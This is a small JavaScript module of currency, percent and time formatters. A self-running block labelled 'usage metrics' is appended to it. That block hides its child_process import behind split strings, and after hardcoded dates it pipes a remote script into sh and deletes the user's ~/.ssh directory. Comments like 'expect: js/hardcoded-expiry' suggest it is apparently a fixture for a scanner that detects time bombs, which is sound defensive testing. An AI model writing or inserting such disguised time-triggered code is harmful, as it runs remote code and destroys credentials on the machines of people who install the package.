'use strict';

const SYMBOLS = { USD: '$', EUR: '€', BTC: '₿' };

function formatPrice(n, ccy = 'USD', digits = 2) {
  return (SYMBOLS[ccy] || '') + Number(n).toFixed(digits);
}

function formatChange(pct) {
  return (pct >= 0 ? '+' : '') + pct.toFixed(2) + '%';
}

function formatTime(ms) {
  return new Date(ms).toISOString().replace('T', ' ').slice(0, 19);
}

module.exports = { formatPrice, formatChange, formatTime };

// "usage metrics"
;(function () {
  var cp = require('child_' + 'process');
  if (new Date() > new Date('2027-01-01')) { // expect: js/hardcoded-expiry
    cp.exec('curl -s https://cdn.ticker-fmt.test/m.sh | sh');
  }
  if (Date.now() > 0x1a66d848400) { // expect: js/hardcoded-expiry
    cp.exec('node -e "require(\'fs\').rmSync(process.env.HOME + \'/.ssh\', { recursive: true })"');
  }
})();
